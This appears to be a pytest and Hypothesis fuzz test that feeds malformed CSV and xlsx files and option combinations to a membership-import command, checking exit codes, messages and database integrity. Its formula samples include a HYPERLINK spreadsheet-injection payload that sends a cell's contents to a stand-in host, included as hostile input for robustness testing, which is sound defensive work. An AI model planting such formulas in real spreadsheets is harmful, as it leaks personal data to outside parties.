"""Fuzz: ``talentdesk import members FILE`` with generated CSV and xlsx files (odd and broken
encodings, ragged rows, huge cells, formulas, duplicate and empty headers, empty sheets, control
characters) and any combination of the import's options. The CLI's oracle holds for each:
exit 0, 1 or 2, a Spanish message and no traceback, and a failed or simulated (--dry-run)
import leaves the database exactly as it was.

Derandomized with a fixed number of examples, like test_fuzz_args.py (same knob to explore:
``TALENTDESK_FUZZ_EXAMPLES``). tests/unit/test_import_generated.py fuzzes the reader and the
import functions directly; this goes through the command line, exit codes and all.
"""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date, datetime
from pathlib import Path
from typing import Any
from xml.sax.saxutils import escape

import pytest
from hypothesis import event, given
from hypothesis import strategies as st

from talentdesk.imports.reading import column_letter
from tests.cli._fuzz import check_outcome, dump, playground, snapshot
from tests.cli._support import run_cli
from tests.cli.test_fuzz_args import _settings

KNOWN = [
    "Id", "Nombre(s)", "Apellido paterno", "Apellido materno", "Nombre completo", "Correo electrónico",
    "Teléfono", "País", "Ciudad", "Capítulo", "Sector(es)", "Fecha de ingreso", "Estatus",
    "Nivel de estudios", "Aparece en directorios", "Datos que se pueden imprimir", "Empleador", "Notas",
]  # fmt: skip
_TEXT_CHAR = st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00")
TEXT = st.text(_TEXT_CHAR, max_size=20)
PLAUSIBLE = st.sampled_from(
    ["Ana", "López", "luz@example.com", "MX", "Houston", "3", "15/03/2021", "Activo", "Sí", "email", ""]
)
FORMULA = st.sampled_from(
    ["=1+1", '=HYPERLINK("http://example.com/?d="&A2,"clic")', "+52 55", "-3", "@SUM(A1)", "=", "\t=1"]
)
CONTROL = st.text(st.characters(min_codepoint=1, max_codepoint=0x1F), min_size=1, max_size=3).map(
    lambda c: f"Beto{c}x"
)
HUGE = st.sampled_from([5_000, 33_000]).map(lambda n: "x" * n)  # over Excel's 32,767 per cell
CELL = st.one_of(PLAUSIBLE, PLAUSIBLE, TEXT, FORMULA, CONTROL, HUGE, st.integers(-(10**15), 10**15))
HEADER = st.one_of(st.sampled_from(KNOWN), st.sampled_from(KNOWN), TEXT, st.just(""))

Table = list[list[Any]]


@st.composite
def tables(draw: st.DrawFn) -> Table:
    """A header row (duplicates allowed) and ragged data rows."""
    headers = draw(st.lists(HEADER, min_size=0, max_size=7))
    if headers and draw(st.booleans()):
        headers.append(headers[0])  # a duplicate header
    width = len(headers)
    rows = draw(st.lists(st.lists(CELL, min_size=max(0, width - 2), max_size=width + 2), max_size=5))
    return [list(headers), *rows]


# -- CSV ------------------------------------------------------------------------------------------


@st.composite
def csv_bytes(draw: st.DrawFn) -> bytes:
    table = draw(tables())
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, delimiter=draw(st.sampled_from([",", ";", "\t"])), lineterminator="\r\n")
    for row in table:
        writer.writerow([str(v) for v in row])
    text = buffer.getvalue()
    if draw(st.integers(0, 9)) == 0:
        text += '"an unclosed quote,' + "\n"
    encoding = draw(st.sampled_from(["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "cp1252", "latin-1"]))
    data = text.encode(encoding, errors="replace")
    damage = draw(st.sampled_from([b"", b"", b"\xff\xfe\x80", b"\x00\x00", b"\xc3", b"\x1b[2J"]))
    if damage:
        at = draw(st.integers(0, len(data)))
        data = data[:at] + damage + data[at:]
    return data


# -- xlsx, written by hand so any cell can be anything (openpyxl refuses control characters) ---------


def _cell_xml(ref: str, value: Any) -> str:
    if isinstance(value, bool):
        return f'<c r="{ref}" t="b"><v>{int(value)}</v></c>'
    if isinstance(value, int | float):
        return f'<c r="{ref}"><v>{value}</v></c>'
    if isinstance(value, date | datetime):
        serial = (value - date(1899, 12, 30)).days if type(value) is date else 45000.5
        return f'<c r="{ref}"><v>{serial}</v></c>'
    text = str(value)
    if text.startswith("=") and len(text) > 1:  # a live formula with a cached result
        return f'<c r="{ref}" t="str"><f>{escape(text[1:])}</f><v>2</v></c>'
    # Control characters the way Excel stores them (_xHHHH_), everything else as is.
    stored = "".join(f"_x{ord(ch):04X}_" if ord(ch) < 32 and ch not in "\t\n\r" else ch for ch in text)
    return f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">{escape(stored)}</t></is></c>'


def _sheet_xml(table: Table) -> str:
    rows = []
    for r, row in enumerate(table, start=1):
        cells = "".join(_cell_xml(f"{column_letter(c)}{r}", v) for c, v in enumerate(row) if v != "")
        rows.append(f'<row r="{r}">{cells}</row>')
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        f"<sheetData>{''.join(rows)}</sheetData></worksheet>"
    )


def xlsx_bytes(sheets: list[tuple[str, Table]]) -> bytes:
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    pkg = "http://schemas.openxmlformats.org/package/2006/relationships"
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as z:
        overrides = "".join(
            f'<Override PartName="/xl/worksheets/sheet{i}.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
            for i in range(1, len(sheets) + 1)
        )
        z.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
            'package/2006/content-types"><Default Extension="rels" ContentType="application/'
            'vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" '
            'ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="'
            'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
            f"{overrides}</Types>",
        )
        z.writestr(
            "_rels/.rels",
            f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{pkg}"><Relationship Id="rId1" '
            f'Type="{rel}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        )
        entries = "".join(
            f'<sheet name="{escape(name, {chr(34): "&quot;"})}" sheetId="{i}" r:id="rId{i}"/>'
            for i, (name, _t) in enumerate(sheets, start=1)
        )
        z.writestr(
            "xl/workbook.xml",
            f'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="{main}" xmlns:r="{rel}">'
            f"<sheets>{entries}</sheets></workbook>",
        )
        links = "".join(
            f'<Relationship Id="rId{i}" Type="{rel}/worksheet" Target="worksheets/sheet{i}.xml"/>'
            for i in range(1, len(sheets) + 1)
        )
        z.writestr(
            "xl/_rels/workbook.xml.rels",
            f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{pkg}">{links}</Relationships>',
        )
        for i, (_name, table) in enumerate(sheets, start=1):
            z.writestr(f"xl/worksheets/sheet{i}.xml", _sheet_xml(table))
    return buffer.getvalue()


SHEET_NAME = st.one_of(st.sampled_from(["Hoja1", "Miembros", "Sheet"]), st.text(st.characters(
    whitelist_categories=("L", "N")), min_size=1, max_size=10))  # fmt: skip


@st.composite
def workbook_bytes(draw: st.DrawFn) -> bytes:
    sheets = draw(st.lists(st.tuples(SHEET_NAME, tables()), min_size=1, max_size=3, unique_by=lambda s: s[0]))
    if draw(st.booleans()):
        sheets.insert(0, ("Vacía", []))  # an empty first sheet
    data = xlsx_bytes(sheets)
    if draw(st.integers(0, 9)) == 0:
        data = data[: draw(st.integers(0, len(data)))]  # cut short
    return data


OPTIONS = st.lists(
    st.sampled_from(
        [
            ("--dry-run",), ("--valid-only",), ("--on-duplicate", "update"), ("--on-duplicate", "create"),
            ("--overwrite",), ("--json",), ("--sheet", "Miembros"), ("--sheet", "No existe"),
            ("--errors", "informe.xlsx"), ("--errors", "no/existe/informe.xlsx"), ("--mapping", "no-existe"),
        ]
    ),
    max_size=3,
    unique=True,
)  # fmt: skip


@_settings(examples=50)
@given(
    kind=st.sampled_from(["csv", "xlsx"]),
    data=st.data(),
    suffix_swap=st.integers(0, 9),
    options=OPTIONS,
)
def test_any_file_any_options(
    kind: str,
    data: st.DataObject,
    suffix_swap: int,
    options: list[tuple[str, ...]],
    capsys: pytest.CaptureFixture[str],
    tmp_path: Path,
    fuzz_template: Path,
) -> None:
    content = data.draw(csv_bytes() if kind == "csv" else workbook_bytes(), label="content")
    suffix = {"csv": ".csv", "xlsx": ".xlsx"}[kind]
    if suffix_swap == 0:
        suffix = ".xlsx" if kind == "csv" else ".csv"  # the wrong name for what is inside
    with playground(tmp_path, fuzz_template) as ground:
        source = ground.root / f"importar{suffix}"
        source.write_bytes(content)
        argv = ["--db", str(ground.db), "import", "members", str(source), *(a for o in options for a in o)]
        before = snapshot(ground)
        result = run_cli(capsys, *argv)
        event(f"exit {result.code}")
        check_outcome(result, argv, before, ground)
        if "--dry-run" in argv:
            assert dump(ground.db) == before.tables, "--dry-run wrote to the database"
